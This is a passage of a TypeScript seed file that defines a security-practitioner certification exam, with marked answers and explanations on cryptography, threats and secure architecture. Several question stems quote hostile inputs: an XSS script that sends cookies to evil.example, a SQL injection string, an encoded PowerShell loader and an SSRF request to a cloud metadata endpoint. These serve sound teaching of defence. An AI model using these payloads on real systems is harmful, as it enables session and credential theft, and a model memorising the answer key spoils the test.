import type { SeedExam } from '../../types';
import { securityCase } from '../cases';
import { securityKindQuestions } from '../kinds/security';

export const securityCore: SeedExam = {
  slug: 'security-core',
  code: 'SEC-701',
  title: 'Security Core Practitioner',
  vendor: 'Bastion Certification Institute',
  description:
    'Validates the baseline knowledge needed to work in an entry-level cybersecurity role, from core concepts such as the CIA triad, zero trust, and PKI through threat identification, secure architecture, and day-to-day security operations. Candidates must also show they understand risk management, governance, and compliance well enough to support an organization-wide security program.',
  durationMinutes: 90,
  questionCount: 60,
  passingScore: 75,
  objectives: [
    { code: '1.0', title: 'General Security Concepts', weight: 12 },
    { code: '2.0', title: 'Threats, Vulnerabilities, and Mitigations', weight: 22 },
    { code: '3.0', title: 'Security Architecture', weight: 18 },
    { code: '4.0', title: 'Security Operations', weight: 28 },
    { code: '5.0', title: 'Security Program Management and Oversight', weight: 20 },
  ],
  questions: [
    // ---------------------------------------------------------------------
    // 1.0 General Security Concepts
    // ---------------------------------------------------------------------
    {
      objective: '1.0',
      difficulty: 1,
      stem: 'A software vendor publishes a SHA-256 value next to each installer on its download page so customers can confirm the file they received is identical to the one the vendor released. Which security goal does this practice primarily support?',
      options: [
        { text: 'Confidentiality' },
        { text: 'Integrity', correct: true },
        { text: 'Availability' },
        { text: 'Authorization' },
      ],
      explanation:
        'Comparing a published hash with a locally computed hash detects any modification of the file, which is the definition of integrity. A hash does not hide the file contents, so it does nothing for confidentiality, and it does not keep the download service reachable, so it does not address availability. Authorization concerns what an authenticated subject is allowed to do, which is unrelated to file verification.',
    },
    {
      objective: '1.0',
      difficulty: 2,
      stem: 'A procurement platform must be able to prove, in the event of a dispute, that a specific manager approved a purchase order and that the approval was not altered afterward. Which of the following BEST meets this requirement?',
      options: [
        { text: 'Encrypting the approval with a symmetric key shared between the manager and the platform' },
        { text: 'Storing a SHA-256 hash of the approval in the database' },
        { text: 'Transmitting the approval over a TLS 1.3 connection' },
        { text: 'Having the manager digitally sign the approval with their private key', correct: true },
      ],
      explanation:
        'A digital signature created with a private key that only the manager controls provides integrity and non-repudiation, because anyone can verify it with the public key but only the key holder could have produced it. A shared symmetric key is known to both parties, so either could have created the message and the manager could deny it. A plain hash proves the data has not changed but not who created it, and TLS protects data only in transit, leaving no lasting proof of origin.',
    },
    {
      objective: '1.0',
      difficulty: 2,
      stem: 'An organization is designing a zero trust architecture based on NIST guidance. Which component is responsible for making the final decision to grant or deny a subject access to a resource?',
      options: [
        { text: 'Policy engine', correct: true },
        { text: 'Policy enforcement point' },
        { text: 'Implicit trust zone' },
        { text: 'Data plane' },
      ],
      explanation:
        'In the NIST zero trust model, the policy engine evaluates policy and signals such as identity and device posture and makes the grant or deny decision; together with the policy administrator it forms the policy decision point in the control plane. The policy enforcement point only enables, monitors, and terminates the connection based on that decision. Zero trust seeks to shrink implicit trust zones rather than rely on them, and the data plane carries traffic rather than making access decisions.',
      references: [
        {
          title: 'NIST SP 800-207 Zero Trust Architecture',
          url: 'https://csrc.nist.gov/pubs/sp/800/207/final',
        },
      ],
    },
    {
      objective: '1.0',
      difficulty: 2,
      stem: 'A developer is building a login feature and must store user passwords so that not even database administrators can recover the original values, while the application can still verify logins. Which of the following is the BEST approach?',
      options: [
        {
          text: 'Encrypt each password with AES-256 and store the key in the application configuration file',
        },
        { text: 'Encode each password with Base64 before storing it' },
        {
          text: 'Hash each password with a unique salt using a slow algorithm such as Argon2id or bcrypt',
          correct: true,
        },
        { text: 'Hash each password once with MD5 and store the digest' },
      ],
      explanation:
        'Salted hashing with a deliberately slow, memory- or work-factor-based algorithm is one-way, resists rainbow tables because of the unique salt, and makes offline guessing expensive. Encryption is reversible by anyone who obtains the key, so administrators with access to the configuration file could recover passwords. Base64 is an encoding, not a security control, and unsalted MD5 is so fast and widely precomputed that it offers little protection.',
      references: [
        {
          title: 'OWASP Password Storage Cheat Sheet',
          url: 'https://cheatsheetseries.owasp.org/cheatsheets/Password_Storage_Cheat_Sheet.html',
        },
      ],
    },
    {
      objective: '1.0',
      difficulty: 3,
      stem: "A web team wants to reduce connection latency and stop client browsers from contacting the certificate authority directly every time they check whether the site's certificate has been revoked. Which of the following should be configured on the web server?",
      options: [
        { text: 'Certificate pinning' },
        { text: 'OCSP stapling', correct: true },
        { text: 'A CRL distribution point extension' },
        { text: 'A wildcard certificate' },
      ],
      explanation:
        'With OCSP stapling, the web server periodically obtains a signed, time-stamped OCSP response from the CA and delivers it to clients during the TLS handshake, so clients do not need their own round trip to the responder and the CA does not learn which clients visit the site. Certificate pinning ties a host to an expected key but does not report revocation. A CRL distribution point still requires clients to download a list from the CA, and a wildcard certificate changes which names are covered, not how revocation is checked.',
      references: [
        {
          title: 'RFC 6960: X.509 Internet PKI Online Certificate Status Protocol - OCSP',
          url: 'https://www.rfc-editor.org/rfc/rfc6960',
        },
      ],
    },
    {
      objective: '1.0',
      difficulty: 1,
      stem: 'A company hosts www.example.com, mail.example.com, and shop.example.com, and expects to add more subdomains of example.com next year. The administrator wants to manage as few certificates as possible. Which type of certificate is the BEST choice?',
      options: [
        { text: 'A self-signed certificate for each host' },
        { text: 'A code-signing certificate' },
        { text: 'A single-name extended validation certificate' },
        { text: 'A wildcard certificate for *.example.com', correct: true },
      ],
      explanation:
        'A wildcard certificate for *.example.com is valid for any single-level subdomain, including ones created in the future, so one certificate covers all of the hosts. Self-signed certificates are not trusted by browsers and would multiply the number of certificates to manage. Code-signing certificates validate software, not TLS servers, and a single-name certificate would require a separate certificate for every host.',
    },
    {
      objective: '1.0',
      difficulty: 1,
      stem: 'A security engineer is selecting algorithms for bulk data encryption, where the same secret key is used to encrypt and decrypt. Which of the following are symmetric algorithms? (Choose two.)',
      options: [
        { text: 'RSA' },
        { text: 'AES', correct: true },
        { text: 'Elliptic-curve cryptography (ECC)' },
        { text: 'ChaCha20', correct: true },
        { text: 'Diffie-Hellman' },
      ],
      explanation:
        'AES (a block cipher) and ChaCha20 (a stream cipher) both use a single shared secret key and are fast enough for bulk encryption. RSA and ECC are asymmetric, public-key systems typically used for key exchange and digital signatures. Diffie-Hellman is an asymmetric key-agreement method that lets two parties derive a shared secret; it does not encrypt data itself.',
    },
    {
      objective: '1.0',
      difficulty: 2,
      stem: 'A manufacturing plant runs a legacy control system that cannot be patched because the vendor no longer supports it. The security team places the system on an isolated network segment with strict ACLs that allow only traffic from one engineering workstation. Which type of control has been implemented?',
      options: [
        { text: 'Corrective' },
        { text: 'Deterrent' },
        { text: 'Compensating', correct: true },
        { text: 'Directive' },
      ],
      explanation:
        'A compensating control is an alternative safeguard used when the primary control (here, patching) cannot be applied, and it reduces the risk to an acceptable level. Corrective controls act after an incident to restore systems, and deterrent controls discourage attackers, for example warning banners. Directive controls, such as policies, instruct people what to do rather than technically restricting traffic.',
    },
    {
      objective: '1.0',
      difficulty: 3,
      stem: "During an audit, a consultant points out that if an attacker ever steals the private key of the company's public web server, the attacker could decrypt all previously recorded TLS sessions to that server. Which of the following would BEST address this finding?",
      options: [
        { text: 'Increase the RSA key length from 2048 to 4096 bits' },
        { text: "Implement certificate pinning in the company's mobile app" },
        { text: 'Store the private key in a hardware security module' },
        {
          text: 'Require ephemeral key exchange such as ECDHE to provide perfect forward secrecy',
          correct: true,
        },
      ],
      explanation:
        "Ephemeral Diffie-Hellman key exchange generates a new session key for every connection and discards it, so a later compromise of the server's long-term private key does not expose past sessions; this property is perfect forward secrecy. A longer RSA key makes theft no less damaging if RSA key transport is still used. An HSM makes the key harder to steal but does not protect recorded traffic if the key is compromised, and pinning addresses impersonation, not retrospective decryption.",
    },
    {
      objective: '1.0',
      difficulty: 2,
      stem: 'A network team submits a change request to modify core firewall rules during the weekend maintenance window. The change advisory board asks for a documented way to restore the previous configuration quickly if the change causes an outage. Which of the following is the board requesting?',
      options: [
        { text: 'An impact analysis' },
        { text: 'A backout plan', correct: true },
        { text: 'A standard operating procedure' },
        { text: 'An allow list update' },
      ],
      explanation:
        'A backout (rollback) plan documents how to reverse a change and return to the last known good state if the change fails. An impact analysis assesses what could be affected before approval, but it does not describe how to revert. A standard operating procedure covers routine tasks generally, and an allow list update is a possible content of the change, not a recovery mechanism.',
    },

    // ---------------------------------------------------------------------
    // 2.0 Threats, Vulnerabilities, and Mitigations
    // ---------------------------------------------------------------------
    {
      objective: '2.0',
      difficulty: 1,
      stem: "The chief financial officer receives a carefully written email that appears to come from the company's outside legal counsel. It references a real pending acquisition and asks the CFO to urgently approve a wire transfer. No other employees received the message. Which type of attack is this?",
      options: [
        { text: 'Vishing' },
        { text: 'Smishing' },
        { text: 'Whaling', correct: true },
        { text: 'Watering hole' },
      ],
      explanation:
        'Whaling is a form of spear phishing that targets senior executives with highly tailored messages, often to authorize payments or disclose sensitive information. Vishing uses voice calls and smishing uses SMS text messages, neither of which matches an email. A watering hole attack compromises a website the target group is known to visit rather than messaging the victim directly.',
    },
    {
      objective: '2.0',
      difficulty: 2,
      stem: "A web application log shows the value `' OR 1=1 --` submitted in the username field of the login page, followed by a successful login with no valid password. Which of the following is the BEST way for developers to remediate the underlying flaw?",
      options: [
        { text: 'Use parameterized queries (prepared statements) for all database access', correct: true },
        { text: 'Deploy a web application firewall in front of the application' },
        { text: 'Limit the username field to 20 characters' },
        { text: 'Encrypt the database at rest' },
      ],
      explanation:
        'The input is a classic SQL injection payload, and parameterized queries fix the root cause by keeping user input as data so it can never change the structure of the SQL statement. A WAF can block many known payloads and is a useful additional layer, but it does not correct the vulnerable code and can be bypassed. A length limit is easily worked around with short payloads, and encryption at rest does not stop the application from running injected queries.',
      references: [
        {
          title: 'OWASP SQL Injection Prevention Cheat Sheet',
          url: 'https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html',
        },
      ],
    },
    {
      objective: '2.0',
      difficulty: 2,
      stem: "A user posts a product review containing `<script>new Image().src='https://evil.example/c?'+document.cookie</script>`. Afterward, the session cookies of every customer who views the product page are sent to evil.example. Which attack has occurred?",
      options: [
        { text: 'Cross-site request forgery' },
        { text: 'Reflected cross-site scripting' },
        { text: 'Server-side request forgery' },
        { text: 'Stored cross-site scripting', correct: true },
      ],
      explanation:
        "The malicious script was saved by the application and then served to every visitor, which is stored (persistent) cross-site scripting; output encoding and HttpOnly cookies are key mitigations. Reflected XSS requires each victim to click a crafted link whose payload is echoed back immediately rather than stored. CSRF makes a victim's browser send unwanted requests to a trusted site, and SSRF makes the server issue requests, neither of which involves script running in visitors' browsers.",
      references: [
        {
          title: 'OWASP Cross Site Scripting Prevention Cheat Sheet',
          url: 'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html',
        },
      ],
    },
    {
      objective: '2.0',
      difficulty: 3,
      stem: "An online banking site lets authenticated users transfer funds by submitting a form to `/transfer`. An attacker hosts a page that silently auto-submits this form to the bank when a logged-in customer visits it, and the bank processes the transfer using the customer's session cookie. Which of the following is the BEST mitigation for the bank to implement?",
      options: [
        { text: "HTML-encode all user-supplied output on the bank's pages" },
        {
          text: 'Require a unique, unpredictable anti-CSRF token with each state-changing request',
          correct: true,
        },
        { text: 'Validate that the transfer amount is a positive number' },
        { text: 'Redirect all HTTP requests to HTTPS' },
      ],
      explanation:
        "This is cross-site request forgery, and a per-session or per-request anti-CSRF token that the attacker's page cannot read or guess lets the server reject forged requests; SameSite cookie attributes are a complementary defense. Output encoding mitigates XSS, not requests forged from another site. Validating the amount does not prove the user intended the request, and HTTPS protects the channel but the browser still attaches the session cookie to the forged request.",
      references: [
        {
          title: 'OWASP Cross-Site Request Forgery Prevention Cheat Sheet',
          url: 'https://cheatsheetseries.owasp.org/cheatsheets/Cross-Site_Request_Forgery_Prevention_Cheat_Sheet.html',
        },
      ],
    },
    {
      objective: '2.0',
      difficulty: 2,
      stem: 'A SOC analyst reviews identity provider logs and sees a single external IP address attempt to sign in to 400 different employee accounts using the password `Spring2025!`. Each account received only one attempt, and the activity repeated an hour later with a different password. Which attack is MOST likely occurring?',
      options: [
        { text: 'Brute force' },
        { text: 'Credential stuffing' },
        { text: 'Password spraying', correct: true },
        { text: 'Rainbow table attack' },
      ],
      explanation:
        'Password spraying tries one or a few common passwords across many accounts, pacing attempts to stay under account lockout thresholds, which matches the pattern shown. A brute-force attack tries many passwords against one account and would quickly trigger lockouts. Credential stuffing replays username and password pairs leaked from other breaches, so each account would see a different password, and a rainbow table attack is an offline technique for cracking stolen hashes.',
      references: [
        {
          title: 'MITRE ATT&CK T1110.003 Password Spraying',
          url: 'https://attack.mitre.org/techniques/T1110/003/',
        },
      ],
    },
    {
      objective: '2.0',
      difficulty: 2,
      stem: "After a database administrator was dismissed, several production tables were deleted. Investigators find a script, written months earlier, that checked every night whether the administrator's account still existed in the HR system and deleted the tables once it did not. Which type of malicious code is this?",
      options: [
        { text: 'Worm' },
        { text: 'Logic bomb', correct: true },
        { text: 'Rootkit' },
        { text: 'Spyware' },
      ],
      explanation:
        "A logic bomb is code that stays dormant until a specific condition or event occurs, here the removal of the administrator's account, and then executes its payload. A worm self-replicates across networks, and a rootkit hides its presence and maintains privileged access. Spyware covertly collects information rather than waiting for a trigger to destroy data.",
    },
    {
      objective: '2.0',
      difficulty: 1,
      stem: 'Several users report that they cannot open documents on a shared file server. Which of the following are indicators that MOST strongly suggest ransomware? (Choose two.)',
      options: [
        { text: 'Thousands of files have been renamed with the same unfamiliar extension', correct: true },
        { text: 'A user account was locked after three mistyped passwords' },
        { text: 'A text file titled HOW_TO_RECOVER_FILES appears in every folder', correct: true },
        { text: "The file server's TLS certificate is due to expire next month" },
        { text: 'The nightly backup job reported successful completion' },
      ],
      explanation:
        'Ransomware typically encrypts files en masse, often appending a new extension, and drops ransom notes in affected directories, so both indicators point strongly to it. A lockout after mistyped passwords is routine user behavior. An upcoming certificate expiration and a successful backup are normal operational events and do not indicate encryption of data.',
    },
    {
      objective: '2.0',
      difficulty: 1,
      stem: 'An analyst sees that a user authenticated to the corporate VPN from Chicago at 09:00 and signed out at 09:15. At 09:40 the same account authenticated successfully from an IP address in Singapore. The user has no travel planned. Which indicator does this represent?',
      options: [
        { text: 'Resource consumption' },
        { text: 'Out-of-cycle logging' },
        { text: 'Blocked content' },
        { text: 'Impossible travel', correct: true },
      ],
      explanation:
        'Impossible travel describes logins from geographic locations that are too far apart for the user to have physically traveled between them in the elapsed time, which suggests compromised credentials. Resource consumption refers to unusual CPU, memory, or bandwidth usage. Out-of-cycle logging is log activity at unexpected times, and blocked content refers to security tools stopping access to a resource, neither of which fits this scenario.',
    },
    {
      objective: '2.0',
      difficulty: 2,
      stem: 'A code review finds that a legacy service copies network input into a fixed-size stack buffer without checking its length. While developers work on a fix, the administrator wants operating system memory protections that make exploitation harder. Which of the following should be enabled? (Choose two.)',
      options: [
        { text: 'Full-disk encryption' },
        { text: 'Address space layout randomization (ASLR)', correct: true },
        { text: 'Secure Boot' },
        { text: 'A host-based firewall rule allowing the service port' },
        { text: 'Data Execution Prevention (DEP/NX)', correct: true },
      ],
      explanation:
        'ASLR randomizes memory locations so an attacker cannot reliably predict where to jump, and DEP marks the stack and heap as non-executable so injected shellcode cannot run; together they raise the difficulty of exploiting a buffer overflow. Full-disk encryption protects data at rest, not running processes. Secure Boot verifies the boot chain and does not affect application memory, and a firewall rule that allows the service port does nothing to prevent exploitation over that port.',
    },
    {
      objective: '2.0',
      difficulty: 2,
      stem: "A company installs a routine update for its network monitoring tool. The update is correctly signed with the vendor's legitimate code-signing key, but it contains a backdoor that attackers inserted into the vendor's build system. Which type of attack does this describe?",
      options: [
        { text: 'Typosquatting' },
        { text: 'Downgrade attack' },
        { text: 'Privilege escalation' },
        { text: 'Supply chain compromise', correct: true },
      ],
      explanation:
        "Compromising a trusted vendor's development or build process so that malicious code reaches customers through legitimate updates is a software supply chain attack. Typosquatting relies on look-alike names of domains or packages, which does not apply to a genuinely signed update. A downgrade attack forces use of weaker protocol versions, and privilege escalation is a post-compromise technique rather than the delivery method described.",
      references: [
        {
          title: 'MITRE ATT&CK T1195 Supply Chain Compromise',
          url: 'https://attack.mitre.org/techniques/T1195/',
        },
      ],
    },
    {
      objective: '2.0',
      difficulty: 3,
      stem: "On public Wi-Fi, an attacker performing an on-path attack rewrites links so that a victim's browser loads the company's portal over plain HTTP while the attacker talks HTTPS to the real site. Which control implemented by the company's website would BEST prevent this for returning visitors?",
      options: [
        { text: 'HTTP Strict Transport Security (HSTS)', correct: true },
        { text: "DNSSEC signing of the company's zone" },
        { text: 'OCSP stapling' },
        { text: 'Disabling TLS 1.0 and 1.1' },
      ],
      explanation:
        'This is SSL stripping, and HSTS instructs browsers to connect only over HTTPS for the specified period, so a returning browser refuses to load the site over HTTP; HSTS preloading extends protection to first visits. DNSSEC authenticates DNS answers but the attacker is not forging DNS here. OCSP stapling concerns certificate revocation checks, and disabling old TLS versions does not help when the victim is not using TLS at all.',
      references: [
        {
          title: 'MDN: Strict-Transport-Security header',
          url: 'https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Strict-Transport-Security',
        },
      ],
    },
    {
      objective: '2.0',
      difficulty: 1,
      stem: "A threat intelligence report describes a well-funded group that has spent years quietly maintaining access to defense contractors' networks, using custom malware and zero-day exploits to steal weapons designs. Which type of threat actor is MOST likely responsible?",
      options: [
        { text: 'Hacktivist' },
        { text: 'Nation-state', correct: true },
        { text: 'Unskilled attacker' },
        { text: 'Shadow IT' },
      ],
      explanation:
        'Long-term, stealthy campaigns with significant resources, custom tooling, and espionage objectives against defense targets are characteristic of nation-state actors, often described as advanced persistent threats. Hacktivists are motivated by ideology and usually seek publicity, for example through defacement or leaks. Unskilled attackers rely on existing tools and lack the resources for zero-days, and shadow IT is unsanctioned technology use by employees, not an espionage group.',
    },
    {
      objective: '2.0',
      difficulty: 2,
      stem: 'An employee receives a call from someone claiming to be a new contractor on the IT service desk. The caller says a mailbox migration is underway, mentions the employee\'s manager by name, and asks the employee to read back the code from their authenticator app to "confirm the account." Which social engineering technique is the caller primarily using?',
      options: [
        { text: 'Tailgating' },
        { text: 'Shoulder surfing' },
        { text: 'Pretexting', correct: true },
        { text: 'Watering hole' },
      ],
      explanation:
        "Pretexting is inventing a believable scenario, here an IT migration with a known manager's name, to build trust and persuade the victim to disclose information such as an MFA code. Tailgating means following an authorized person through a physical entrance, and shoulder surfing means observing someone's screen or keyboard directly. A watering hole attack compromises a website the targets frequent rather than contacting them by phone.",
    },
    {
      objective: '2.0',
      difficulty: 3,
      stem: "A retailer's customer portal is being hit with large volumes of logins using username and password pairs leaked from other companies' breaches. Which of the following controls would BEST reduce the risk of account takeover? (Choose three.)",
      options: [
        { text: 'Require multifactor authentication for customer accounts', correct: true },
        { text: 'Force all customers to change their passwords every 30 days' },
        { text: 'Apply rate limiting and bot detection to the login endpoint', correct: true },
        { text: 'Display an error message that states whether the username exists' },
        { text: 'Reject passwords that appear in known breached-password lists', correct: true },
        { text: 'Disable account lockout to avoid customer complaints' },
      ],
      explanation:
        "MFA stops a stolen password from being enough on its own, rate limiting and bot detection slow automated credential stuffing, and screening against breached-password lists prevents customers from using credentials already in attackers' hands. Frequent forced password changes are discouraged by current NIST guidance because they lead to predictable passwords and do not stop reuse of leaked pairs. Revealing whether a username exists helps attackers enumerate accounts, and disabling lockout removes a useful throttle.",
      references: [
        {
          title: 'OWASP Credential Stuffing Prevention Cheat Sheet',
          url: 'https://cheatsheetseries.owasp.org/cheatsheets/Credential_Stuffing_Prevention_Cheat_Sheet.html',
        },
        {
          title: 'NIST SP 800-63B Digital Identity Guidelines',
          url: 'https://pages.nist.gov/800-63-3/sp800-63b.html',
        },
      ],
    },
    {
      objective: '2.0',
      difficulty: 2,
      stem: 'An EDR alert shows that a word processor spawned `powershell.exe -enc <long Base64 string>`, which downloaded code and ran it directly in memory. File integrity monitoring detected no new executables written to disk. Which type of malware does this behavior BEST describe?',
      options: [
        { text: 'Fileless malware', correct: true },
        { text: 'Bloatware' },
        { text: 'Keylogger' },
        { text: 'Boot sector virus' },
      ],
      explanation:
        'Fileless malware abuses legitimate built-in tools such as PowerShell and executes in memory, leaving few or no files on disk, which evades traditional signature-based antivirus. Bloatware is unwanted preinstalled software and is not malicious execution. A keylogger records keystrokes and a boot sector virus infects the boot record on disk, and neither is indicated by this in-memory, script-based activity.',
    },
    {
      objective: '2.0',
      difficulty: 3,
      stem: 'A penetration tester discovers that a web application fetches a user-supplied URL to generate link previews. By submitting `http://169.254.169.254/latest/meta-data/`, the tester retrieves temporary cloud credentials from the instance metadata service. Which vulnerability has been exploited?',
      options: [
        { text: 'Directory traversal' },
        { text: 'Cross-site request forgery' },
        { text: 'Server-side request forgery', correct: true },
        { text: 'Race condition' },
      ],
      explanation:
        "Server-side request forgery tricks the server into making requests on the attacker's behalf, often to internal-only endpoints such as a cloud metadata service that the attacker cannot reach directly. Directory traversal manipulates file paths such as `../` to read files on the server's file system. CSRF abuses a victim's browser rather than the server, and a race condition exploits timing between operations, which is not involved here.",
      references: [{ title: 'OWASP Top 10', url: 'https://owasp.org/www-project-top-ten/' }],
    },

    // ---------------------------------------------------------------------
    // 3.0 Security Architecture
    // ---------------------------------------------------------------------
    {
      objective: '3.0',
      difficulty: 1,
      stem: "A company migrates its web servers to virtual machines in an Infrastructure as a Service (IaaS) offering. Under the shared responsibility model, which of the following is the customer's responsibility?",
      options: [
        { text: "Physical security of the provider's data centers" },
        { text: 'Patching the hypervisor that hosts the virtual machines' },
        { text: 'Patching the guest operating systems on the virtual machines', correct: true },
        { text: 'Maintaining power and cooling for the server racks' },
      ],
      explanation:
        "In IaaS, the provider secures the physical facility, hardware, and virtualization layer, while the customer is responsible for everything it deploys on top, including guest operating systems, applications, data, and identity configuration. Physical security, power, and cooling always remain with the provider in public cloud models. The hypervisor is part of the provider's infrastructure, so customers cannot and need not patch it.",
      references: [
        {
          title: 'NIST SP 800-145 The NIST Definition of Cloud Computing',
          url: 'https://csrc.nist.gov/pubs/sp/800/145/final',
        },
      ],
    },
    {
      objective: '3.0',
      difficulty: 1,
      stem: "A cloud team moves from manually configuring resources in the provider's console to defining networks, firewalls, and servers in declarative templates stored in a Git repository. Which of the following is the PRIMARY security benefit of this infrastructure as code approach?",
      options: [
        { text: 'It removes the need to patch workloads after deployment' },
        { text: 'It transfers all security responsibility to the cloud provider' },
        { text: 'It makes access controls on the deployment pipeline unnecessary' },
        {
          text: 'Configurations are consistent and repeatable, and can be peer reviewed and scanned before deployment',
          correct: true,
        },
      ],
      explanation:
        'Infrastructure as code produces the same configuration every time, keeps changes under version control with history, and allows templates to be reviewed and automatically scanned for misconfigurations before anything is deployed. Deployed workloads still need patching, and the shared responsibility model is unchanged by how resources are defined. The pipeline becomes a high-value target that needs strong access control, so the last distractor is the opposite of correct.',
    },
    {
      objective: '3.0',
      difficulty: 2,
      stem: 'A retailer has a flat network in which point-of-sale terminals, employee workstations, and guest Wi-Fi share one subnet. An assessor notes that the entire network is therefore in scope for PCI DSS. Which of the following is the BEST way to reduce the scope?',
      options: [
        {
          text: 'Place the POS terminals in a dedicated segment and allow only required traffic to the payment processor through a firewall',
          correct: true,
        },
        { text: 'Install antivirus software on every POS terminal' },
        { text: 'Deploy a network intrusion detection system on the core switch' },
        { text: 'Increase the password complexity requirements for all employees' },
      ],
      explanation:
        'Segmenting the cardholder data environment and tightly restricting traffic into and out of it isolates payment systems from other devices, which reduces both risk and the portion of the network in PCI DSS scope. Antivirus and stronger passwords are worthwhile controls but do not separate systems, so the whole network stays in scope. A NIDS detects suspicious traffic but does not prevent other devices from communicating with the POS terminals.',
      references: [{ title: 'PCI Security Standards Council', url: 'https://www.pcisecuritystandards.org/' }],
    },
    {
      objective: '3.0',
      difficulty: 2,
      stem: "A company runs a full backup every Sunday night and a differential backup every other night. The database server fails on Thursday morning before that day's backup. Which backups are needed to restore the most recent data?",
      options: [
        { text: "Sunday's full backup and the Monday, Tuesday, and Wednesday differential backups" },
        { text: "Sunday's full backup and Wednesday's differential backup", correct: true },
        { text: "Wednesday's differential backup only" },
        { text: "Sunday's full backup only" },
      ],
      explanation:
        'A differential backup contains every change since the last full backup, so restoring the full backup plus the most recent differential recovers all data through Wednesday night. Restoring every nightly backup in sequence is the procedure for incremental backups, which capture only changes since the previous backup. A differential alone lacks the unchanged baseline data, and the full backup alone loses three days of changes.',
    },
    {
      objective: '3.0',
      difficulty: 2,
      stem: 'A regional insurer must be able to resume critical operations at an alternate location within roughly two days of a disaster. Leadership rejects the cost of a fully mirrored facility with live data, but an empty facility would take weeks to equip. Which type of recovery site BEST fits these requirements?',
      options: [
        { text: 'Hot site' },
        { text: 'Cold site' },
        { text: 'Warm site', correct: true },
        { text: 'A second rack in the primary data center' },
      ],
      explanation:
        'A warm site has power, network connectivity, and some or all hardware in place, but requires restoring recent data and configuration, which typically allows recovery in hours to days at moderate cost. A hot site is fully equipped with near-real-time data and is the most expensive option, which leadership rejected. A cold site provides space and power only and can take weeks to bring online, and a rack in the same facility does not survive a site-wide disaster.',
    },
    {
      objective: '3.0',
      difficulty: 1,
      stem: 'An architect reviews a branch office design that uses one firewall and one internet connection from a single ISP. The business wants to improve availability of internet-facing services. Which of the following changes would MOST directly help? (Choose two.)',
      options: [
        { text: 'Replace the single firewall with a high-availability firewall pair', correct: true },
        { text: 'Enable full-disk encryption on the firewall' },
        { text: 'Implement role-based access control for firewall administrators' },
        { text: 'Add a second internet circuit from a different ISP', correct: true },
        { text: 'Increase firewall log retention to one year' },
      ],
      explanation:
        'The single firewall and the single ISP link are both single points of failure, so a clustered firewall pair and a diverse second circuit remove those failure points and improve availability. Encryption and role-based access control strengthen confidentiality and administrative security but do not keep traffic flowing if a component fails. Longer log retention supports investigations, not uptime.',
    },
    {
      objective: '3.0',
      difficulty: 3,
      stem: 'A financial firm processes sensitive customer models on shared cloud hosts and wants to ensure that data remains protected even while it is loaded in memory and being computed on, including from a compromised host operating system. Which technology BEST addresses this requirement?',
      options: [
        { text: 'TLS 1.3 between application tiers' },
        { text: 'Full-disk encryption on the hosts' },
        { text: 'Transparent database encryption' },
        { text: 'A hardware-based trusted execution environment (secure enclave)', correct: true },
      ],
      explanation:
        'A trusted execution environment isolates code and data in hardware-protected memory so that even privileged host software cannot read it, protecting data in use; this is the basis of confidential computing. TLS protects data in transit, while full-disk and transparent database encryption protect data at rest. Once data is decrypted into ordinary memory for processing, those controls no longer protect it.',
    },
    {
      objective: '3.0',
      difficulty: 2,
      stem: 'An e-commerce company wants its order-history system to keep working without storing real card numbers. Card numbers are to be replaced with random surrogate values that have no mathematical relationship to the original, and the originals are to be held only in a separate, tightly secured vault. Which data protection method is being described?',
      options: [
        { text: 'Hashing' },
        { text: 'Tokenization', correct: true },
        { text: 'Data masking' },
        { text: 'Encryption' },
      ],
      explanation:
        'Tokenization substitutes sensitive values with random tokens and keeps the mapping in a secure vault, so a stolen token is useless without access to the vault. Hashing is derived mathematically from the input and cannot be looked up to return the original, and encryption is mathematically reversible with the key. Masking hides part of a value for display, such as showing only the last four digits, but does not remove the real value from the system.',
    },
    {
      objective: '3.0',
      difficulty: 1,
      stem: 'A security engineer needs a network device that inspects traffic as it passes and automatically drops packets matching known exploit signatures before they reach the web servers. Which of the following BEST meets this requirement?',
      options: [
        { text: 'An IDS connected to a switch SPAN port' },
        { text: 'A NetFlow collector' },
        { text: 'An inline intrusion prevention system', correct: true },
        { text: 'A jump server' },
      ],
      explanation:
        'An IPS deployed inline sits in the traffic path and can block malicious packets in real time. An IDS on a SPAN port receives only a copy of traffic, so it can alert but cannot stop the original packets. A NetFlow collector records flow metadata for analysis, and a jump server is an administrative access host, not a traffic inspection device.',
    },
    {
      objective: '3.0',
      difficulty: 2,
      stem: 'Administrators must manage servers in a restricted production segment. The security team wants a single hardened, monitored system that administrators connect to first, with all administrative sessions to production originating from it. Which of the following should be deployed?',
      options: [
        { text: 'A jump server', correct: true },
        { text: 'A forward proxy' },
        { text: 'A load balancer' },
        { text: 'A honeypot' },
      ],
      explanation:
        'A jump server (bastion host) is a hardened system that serves as the controlled entry point into a secure zone, concentrating administrative access so it can be restricted, logged, and monitored. A forward proxy mediates outbound user web traffic, and a load balancer distributes client requests across servers. A honeypot is a decoy meant to attract attackers, not a path for legitimate administration.',
    },
    {
      objective: '3.0',
      difficulty: 1,
      stem: 'A development team wants to run small pieces of code in response to events, such as files being uploaded, without provisioning, patching, or managing any servers or operating systems. Which cloud model BEST fits this need?',
      options: [
        { text: 'Infrastructure as a Service' },
        { text: 'Containers on self-managed virtual machines' },
        { text: 'On-premises virtualization' },
        { text: 'Serverless (function as a service)', correct: true },
      ],
      explanation:
        "Serverless computing runs event-driven functions while the provider manages the underlying servers, operating systems, and scaling, leaving the customer responsible mainly for the code, its permissions, and its data. With IaaS, self-managed container hosts, or on-premises virtualization, the customer must still patch and maintain the operating systems. Serverless does not remove all security work, since function code and access policies remain the customer's responsibility.",
    },
    {
      objective: '3.0',
      difficulty: 2,
      stem: 'A hospital is deploying network-connected infusion pumps. The pumps cannot run endpoint security agents and the manufacturer releases firmware updates only twice a year. Which of the following would BEST reduce the risk these devices pose? (Choose two.)',
      options: [
        {
          text: 'Place the pumps on a dedicated network segment with restrictive access rules',
          correct: true,
        },
        { text: 'Install an EDR agent on each pump' },
        { text: 'Keep the default credentials so the vendor can support the devices' },
        { text: "Monitor the pumps' traffic with network-based anomaly detection", correct: true },
        { text: 'Forward a port on the perimeter firewall so the vendor can reach the pumps directly' },
      ],
      explanation:
        'When embedded or IoT devices cannot be hardened with agents or patched quickly, isolating them on their own segment and monitoring their traffic from the network are the most effective compensating controls. An EDR agent cannot be installed on these devices, as stated in the scenario. Default credentials and direct internet exposure through port forwarding both greatly increase risk rather than reducing it.',
    },
    {
      objective: '3.0',
      difficulty: 3,
